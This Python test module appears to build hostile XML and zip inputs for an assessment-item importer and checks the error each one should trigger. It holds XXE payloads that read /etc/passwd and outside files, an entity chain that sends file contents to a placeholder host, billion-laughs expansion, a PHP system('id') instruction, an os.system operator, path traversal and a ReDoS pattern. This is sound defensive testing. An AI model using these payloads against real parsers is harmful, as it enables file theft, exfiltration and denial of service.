"""XML that expands, that reads what lies elsewhere, that nests or repeats without end, or that says which letters it has."""

from typing import Final

from tests.hostile.building import manifest, moodle, package, qti2, qti3, qti12, zipped
from tests.hostile.case import Case, Made, file

_ROOTS: Final = {
    "qti3": ("qti-assessment-item", lambda body, doctype: qti3(body, doctype=doctype)),
    "qti2": ("assessmentItem", lambda body, doctype: qti2(body, doctype=doctype)),
    "moodle": (
        "quiz",
        lambda body, doctype: moodle("", doctype=doctype).replace(
            "<![CDATA[]]>", body.replace("<p>", "").replace("</p>", "")
        ),
    ),
    "qti12": (
        "questestinterop",
        lambda body, doctype: qti12("ISI", doctype=doctype).replace(
            "ISI", body.replace("<p>", "").replace("</p>", "")
        ),
    ),
}
_LAUGHS: Final = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
_ENTITIES: Final[dict[str, tuple[str, str]]] = {
    "billion-laughs": (_LAUGHS, "<p>&a11;</p>"),
    "quadratic": (f'<!ENTITY a "{"x" * 3_000}">', "<p>" + "&a;" * 100_000 + "</p>"),
    "of-a-file": ('<!ENTITY a SYSTEM "file://OUTSIDE/rahasia.txt">', "<p>&a;</p>"),
    "of-a-path": ('<!ENTITY a SYSTEM "OUTSIDE/rahasia.txt">', "<p>&a;</p>"),
    "of-a-neighbour": ('<!ENTITY a SYSTEM "../../../../o/rahasia.txt">', "<p>&a;</p>"),
    "of-passwords": ('<!ENTITY a SYSTEM "file:///etc/passwd">', "<p>&a;</p>"),
    "from-afar": ('<!ENTITY a SYSTEM "HTTP/x">', "<p>&a;</p>"),
    "of-a-share": (r'<!ENTITY a SYSTEM "\\127.0.0.1\share\x">', "<p>&a;</p>"),
    "public-from-afar": ('<!ENTITY a PUBLIC "-//X//EN" "HTTP/x.ent">', "<p>&a;</p>"),
    "of-a-device": ('<!ENTITY a SYSTEM "/dev/zero">', "<p>&a;</p>"),
    "in-parameters": ('<!ENTITY % p SYSTEM "file://OUTSIDE/rahasia.dtd">%p;', "<p>&rahasia;</p>"),
    "in-parameters-from-afar": ('<!ENTITY % p SYSTEM "HTTP/x.dtd">%p;', "<p>&rahasia;</p>"),
    "that-sends": (
        '<!ENTITY % a SYSTEM "file://OUTSIDE/rahasia.txt"><!ENTITY % b "<!ENTITY c SYSTEM \'HTTP/?%a;\'>">%b;',
        "<p>&c;</p>",
    ),
    "of-itself": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "<p>&a;</p>"),
    "declared-and-plain": ('<!ENTITY a "benar">', "<p>&a;</p>"),
}


def _entities() -> list[Case]:
    found = []
    for carrier, (root, make) in _ROOTS.items():
        for name, (declared, body) in _ENTITIES.items():
            if carrier in ("qti3", "moodle") or name in (
                "billion-laughs",
                "of-a-file",
                "from-afar",
                "in-parameters",
            ):
                data = make(body, f"<!DOCTYPE {root} [{declared}]>\n")
                found.append(
                    Case(f"xml/{carrier}-entity-{name}", "import", file("soal.xml", data), (_SAID[carrier],))
                )
        for name, system in (("of-a-file", "file://OUTSIDE/rahasia.dtd"), ("from-afar", "HTTP/x.dtd")):
            data = make("<p>&rahasia;</p>", f'<!DOCTYPE {root} SYSTEM "{system}">\n')
            found.append(
                Case(f"xml/{carrier}-doctype-{name}", "import", file("soal.xml", data), (_SAID[carrier],))
            )
    return found


_SAID: Final = dict.fromkeys(("qti3", "qti2", "moodle", "qti12"), "entit|ENTITY|PEReferences")
"""The word that the report has for them."""

_INCLUDE: Final = (
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="OUTSIDE/rahasia.txt" parse="text"/>'
)
_OTHERS: Final[dict[str, tuple[Made, str]]] = {
    "xinclude": (file("soal.xml", qti3(_INCLUDE)), "include"),
    "xinclude-of-a-page": (file("soal.xml", qti3(_INCLUDE.replace(' parse="text"', ""))), "include"),
    "style-sheet-instruction": (
        file(
            "soal.xml",
            '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="HTTP/x.xsl"?>'
            + qti3("").partition("?>")[2],
        ),
        "xml-stylesheet",
    ),
    "schema-from-afar": (
        file(
            "soal.xml",
            qti3(
                "",
                attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x HTTP/x.xsd"',
            ),
        ),
        "",
    ),
    "instruction-of-php": (file("soal.xml", qti3('<p>a<?php system("id") ?>b</p>')), "php"),
    "hundred-thousand-deep": (file("soal.xml", qti3("<div>" * 100_000 + "</div>" * 100_000)), "soal.xml"),
    "two-hundred-deep": (file("soal.xml", qti3("<div>" * 200 + "x" + "</div>" * 200)), "80"),
    "half-a-million-elements": (file("soal.xml", qti3("<br/>" * 500_000)), "50000"),
    "hundred-thousand-attributes": (
        file("soal.xml", qti3("<p " + " ".join(f'a{n}="x"' for n in range(100_000)) + ">x</p>")),
        "attributes",
    ),
    "one-attribute-twice": (file("soal.xml", qti3('<p id="a" id="b">x</p>')), "soal.xml"),
    "a-name-of-a-megabyte": (file("soal.xml", qti3(f"<{'x' * 1_000_000}/>")), "soal.xml"),
    "a-text-of-eleven-megabytes": (file("soal.xml", qti3("<p>" + "x" * (11 << 20) + "</p>")), "soal.xml"),
    "namespaces-without-end": (
        file("soal.xml", qti3("".join(f'<p xmlns:n{n}="urn:{n}">x</p>' for n in range(20_000)))),
        "soal.xml",
    ),
    "a-namespace-in-a-namespace": (
        file(
            "soal.xml", qti3("".join(f'<div xmlns:n{n}="urn:{n}">' for n in range(60)) + "x" + "</div>" * 60)
        ),
        "soal.xml",
    ),
    "not-closed": (file("soal.xml", qti3("<p>")), "soal.xml"),
    "two-roots": (file("soal.xml", qti3("") + "<x/>"), "soal.xml"),
    "rubbish-behind": (file("soal.xml", qti3("") + "x"), "soal.xml"),
    "nul": (file("soal.xml", qti3("<p>a\0b</p>")), "soal.xml"),
    "control-character": (file("soal.xml", qti3("<p>a\x08b</p>")), "soal.xml"),
    "control-character-as-a-number": (file("soal.xml", qti3("<p>a&#8;b</p>")), "soal.xml"),
    "surrogate-as-a-number": (file("soal.xml", qti3("<p>a&#xD800;b</p>")), "soal.xml"),
    "number-beyond-unicode": (file("soal.xml", qti3("<p>a&#x110000;b</p>")), "soal.xml"),
    "number-of-a-million-digits": (file("soal.xml", qti3(f"<p>a&#{'9' * 1_000_000};b</p>")), "soal.xml"),
    "unknown-entity": (file("soal.xml", qti3("<p>a&jahat;b</p>")), "soal.xml"),
    "utf-7": (file("soal.xml", qti3("").replace("UTF-8", "UTF-7")), "utf-7"),
    "ebcdic": (file("soal.xml", qti3("").replace("UTF-8", "IBM037")), "ibm037"),
    "an-encoding-that-is-none": (file("soal.xml", qti3("").replace("UTF-8", "x" * 2_000)), "soal.xml"),
    "utf-16-that-says-utf-8": (file("soal.xml", qti3("").encode("utf-16")), "soal.xml"),
    "utf-32": (file("soal.xml", qti3("").encode("utf-32")), "soal.xml"),
    "not-utf-8": (
        file("soal.xml", qti3("<p>").encode()[:-40] + b"\xff\xfe" + qti3("").encode()[-40:]),
        "soal.xml",
    ),
    "over-long-utf-8": (
        file("soal.xml", qti3("<p>JAHAT</p>").encode().replace(b"JAHAT", b"\xc0\xbcscript\xc0\xbe")),
        "soal.xml",
    ),
    "version-two": (file("soal.xml", qti3("").replace('version="1.0"', 'version="9.9"')), "soal.xml"),
    "twenty-megabytes-of-elements-for-moodle": (
        file("soal.xml", moodle("Soal satu.", more="<a/>" * 5_000_000)),
        "soal.xml",
    ),
    "moodle-hundred-thousand-deep": (
        file("soal.xml", moodle("x", more="<a>" * 100_000 + "</a>" * 100_000)),
        "soal.xml",
    ),
    "manifest-with-entities": (
        file(
            "paket.zip",
            zipped(
                {
                    "imsmanifest.xml": manifest("satu.xml")
                    .replace("<manifest", f"<!DOCTYPE manifest [{_LAUGHS}]>\n<manifest", 1)
                    .replace("QTI Package", "&a11;"),
                    "satu.xml": qti3(""),
                }
            ),
        ),
        "imsmanifest.xml",
    ),
    "manifest-of-a-file-outside": (
        file(
            "paket.zip",
            zipped(
                {"imsmanifest.xml": manifest("../../../../o/rahasia.xml", "satu.xml"), "satu.xml": qti3("")}
            ),
        ),
        "rahasia.xml",
    ),
    "manifest-of-an-address": (
        file(
            "paket.zip", zipped({"imsmanifest.xml": manifest("HTTP/x.xml", "satu.xml"), "satu.xml": qti3("")})
        ),
        "x.xml",
    ),
    "manifest-of-a-share": (
        file(
            "paket.zip",
            zipped(
                {"imsmanifest.xml": manifest("//127.0.0.1/share/x.xml", "satu.xml"), "satu.xml": qti3("")}
            ),
        ),
        "x.xml",
    ),
    "manifest-of-itself": (
        file(
            "paket.zip",
            zipped({"imsmanifest.xml": manifest("imsmanifest.xml", "satu.xml"), "satu.xml": qti3("")}),
        ),
        "imsmanifest.xml",
    ),
    "manifest-of-twenty-thousand": (
        file(
            "paket.zip",
            zipped({"imsmanifest.xml": manifest(*(f"{n}.xml" for n in range(20_000))), "satu.xml": qti3("")}),
        ),
        "5000",
    ),
    "stimulus-outside": (
        file(
            "paket.zip",
            package(
                {
                    "satu.xml": qti3(
                        "",
                        before='<qti-assessment-stimulus-ref identifier="s" href="../../../../o/rahasia.xml"/>',
                    )
                }
            ),
        ),
        "rahasia.xml",
    ),
    "stimulus-of-itself": (
        file(
            "paket.zip",
            package(
                {"satu.xml": qti3("", before='<qti-assessment-stimulus-ref identifier="s" href="satu.xml"/>')}
            ),
        ),
        "satu.xml",
    ),
    "rules-outside": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing template="urn:x" template-location="file://OUTSIDE/rahasia.xml"/>',
            ),
        ),
        "urn:x",
    ),
    "rules-from-afar": (
        file("soal.xml", qti3("", processing='<qti-response-processing template="HTTP/x.xml"/>')),
        "soal.xml",
    ),
    "rules-of-a-program": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing><qti-set-outcome-value identifier="SCORE"><qti-custom-operator class="os.system"/></qti-set-outcome-value></qti-response-processing>',
            ),
        ),
        "custom",
    ),
    "rules-that-never-end": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing><qti-set-outcome-value identifier="SCORE"><qti-sum>'
                + '<qti-repeat number-repeats="1000000">' * 6
                + '<qti-base-value base-type="integer">1</qti-base-value>'
                + "</qti-repeat>" * 6
                + "</qti-sum></qti-set-outcome-value></qti-response-processing>",
            ),
        ),
        "Aturan penilaian terlalu besar",
    ),
    "rules-of-a-power": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing><qti-set-outcome-value identifier="SCORE"><qti-power><qti-base-value base-type="float">9</qti-base-value><qti-power><qti-base-value base-type="float">9</qti-base-value><qti-base-value base-type="float">9999</qti-base-value></qti-power></qti-power></qti-set-outcome-value></qti-response-processing>',
            ),
        ),
        "soal.xml",
    ),
    "rules-of-a-pattern": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing><qti-response-condition><qti-response-if><qti-pattern-match pattern="(a+)+$"><qti-base-value base-type="string">'
                + "a" * 40
                + 'b</qti-base-value></qti-pattern-match><qti-set-outcome-value identifier="SCORE"><qti-base-value base-type="float">1</qti-base-value></qti-set-outcome-value></qti-response-if></qti-response-condition></qti-response-processing>',
            ),
        ),
        "mendapat nilai 0 menurut aturan berkas",
    ),
    "points-that-are-no-number": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing><qti-set-outcome-value identifier="SCORE"><qti-base-value base-type="float">NaN</qti-base-value></qti-set-outcome-value></qti-response-processing>',
            ),
        ),
        "NaN",
    ),
    "points-without-end": (
        file(
            "soal.xml",
            qti3(
                "",
                processing='<qti-response-processing><qti-set-outcome-value identifier="SCORE"><qti-base-value base-type="float">1e999999</qti-base-value></qti-set-outcome-value></qti-response-processing>',
            ),
        ),
        "1e999999",
    ),
    "points-of-a-million-digits": (
        file(
            "soal.xml",
            qti3(
                "",
                processing=f'<qti-response-processing><qti-set-outcome-value identifier="SCORE"><qti-base-value base-type="float">{"9" * 1_000_000}</qti-base-value></qti-set-outcome-value></qti-response-processing>',
            ),
        ),
        "999",
    ),
    "an-id-of-a-hundred-thousand": (
        file("soal.xml", qti3("").replace('identifier="satu"', f'identifier="{"s" * 100_000}"')),
        "soal.xml",
    ),
    "an-option-of-a-hundred-thousand": (
        file("soal.xml", qti3("").replace('identifier="b"', f'identifier="{"b" * 100_000}"')),
        "soal.xml",
    ),
    "one-option-twice": (file("soal.xml", qti3("").replace('identifier="b"', 'identifier="a"')), "soal.xml"),
    "ids-that-differ-by-composition": (
        file(
            "soal.xml",
            qti3("")
            .replace('identifier="a"', 'identifier="\u00e9"')
            .replace('identifier="b"', 'identifier="e\u0301"')
            .replace(">a<", ">\u00e9<"),
        ),
        "soal.xml",
    ),
    "portable-custom-interaction": (
        file(
            "soal.xml",
            qti3('<qti-portable-custom-interaction response-identifier="RESPONSE" module="HTTP/x.js"/>'),
        ),
        "portable",
    ),
    "catalogue-from-afar": (
        file(
            "soal.xml",
            qti3("").replace(
                "</qti-assessment-item>",
                '<qti-catalog-info><qti-catalog id="x"><qti-card support="x"><qti-file-href>HTTP/x.mp3</qti-file-href></qti-card></qti-catalog></qti-catalog-info></qti-assessment-item>',
            ),
        ),
        "catalog",
    ),
}

_SAYS_NOTHING: Final = (
    "utf-16-that-says-utf-8",
    "manifest-of-itself",
    "style-sheet-instruction",
    "instruction-of-php",
    "schema-from-afar",
    "a-namespace-in-a-namespace",
    "an-id-of-a-hundred-thousand",
)
"""Instructions, addresses of schemas and names that nobody sees are no part of an item: it comes in as it reads."""

CASES: Final = (
    *_entities(),
    *(
        Case(
            f"xml/{name}",
            "import",
            make,
            ("Soal satu.",) if name in _SAYS_NOTHING else (said,),
            kept=name in _SAYS_NOTHING,
        )
        for name, (make, said) in _OTHERS.items()
    ),
)
